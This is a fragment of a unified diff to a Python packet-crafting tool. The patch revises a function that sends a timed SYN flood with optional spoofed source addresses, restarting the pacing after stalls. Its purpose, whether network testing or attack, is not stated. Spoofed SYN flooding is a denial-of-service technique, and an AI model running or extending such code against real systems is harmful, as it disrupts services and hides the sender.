@@ -510,14 +510,21 @@ def abort(wire, src, dst, port, count, gap="0.1"):
 
 def flood(wire, src, dst, seconds):
     template = bytearray(fresh_syn(spoofed(0) if src == "any" else src, dst, 81))
-    begin = time.monotonic()
-    for i in range(int(seconds) * 300):
-        early = begin + i / 300 - time.monotonic()
+    begin = last = time.monotonic()
+    number, again = 0, 5
+    while number < int(seconds) * 300:
+        now = time.monotonic()
+        # A second with few of them ends a flood: whoever stood still begins anew.
+        if now - last > 0.6 and again:
+            begin, number, again = now, 0, again - 1
+        early = begin + number / 300 - now
         # Whoever overslept makes up for it.
         if early > 0.005:
             time.sleep(early)
-        source = spoofed(i) if src == "any" else src
+        last = time.monotonic()
+        source = spoofed(number) if src == "any" else src
         wire.send(respun(template, packed(source)))
+        number += 1
 
 
 def pieces(wire, src, dst, count):
